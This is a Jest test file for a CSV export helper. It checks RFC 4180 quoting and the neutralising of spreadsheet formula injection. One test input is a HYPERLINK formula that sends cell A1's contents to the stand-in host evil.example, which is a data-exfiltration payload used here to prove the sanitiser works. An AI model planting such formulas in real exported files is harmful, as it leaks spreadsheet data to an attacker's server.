import { csvCell, csvRow, toCsv } from './csv';

describe('CSV cells (RFC 4180, formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Open report")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Open report"")"`],
    ['=1+1', `"'=1+1"`],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ['-2+3', `"'-2+3"`],
    ['-5', `"'-5"`], // text, even when it looks like a number: only numbers are numbers
    ['@cmd', `"'@cmd"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises text starting like a formula: %j -> %s', (input, want) => {
    expect(csvCell(input)).toBe(want);
  });

  it.each([
    ['plain', 'plain'],
    ['Team A', 'Team A'],
    ['a=b', 'a=b'],
    ["it's", "it's"],
    ['Plain, "quoted" team', '"Plain, ""quoted"" team"'],
    ['two\nlines', '"two\nlines"'],
    ['2026-11-30T00:00:00.000Z', '2026-11-30T00:00:00.000Z'],
    ['', ''],
  ])('leaves other text alone, quoting it when RFC 4180 needs it: %j -> %s', (input, want) => {
    expect(csvCell(input)).toBe(want);
  });

  it.each([
    [-2.5, '-2.5'],
    [-1, '-1'],
    [0, '0'],
    [2.49, '2.49'],
    [1e-7, '1e-7'],
    [null, ''],
    [undefined, ''],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
  ])('writes numbers as numbers (negative ones too) and nothing as an empty cell: %p -> %s', (input, want) => {
    expect(csvCell(input)).toBe(want);
  });

  it('joins rows and lines', () => {
    expect(csvRow(['id', '=x', -3, null, 'a,b'])).toBe(`id,"'=x",-3,,"a,b"`);
    expect(
      toCsv([
        ['h1', 'h2'],
        ['@a', 1],
      ]),
    ).toBe(`h1,h2\n"'@a",1\n`);
    expect(toCsv([])).toBe('');
  });
});
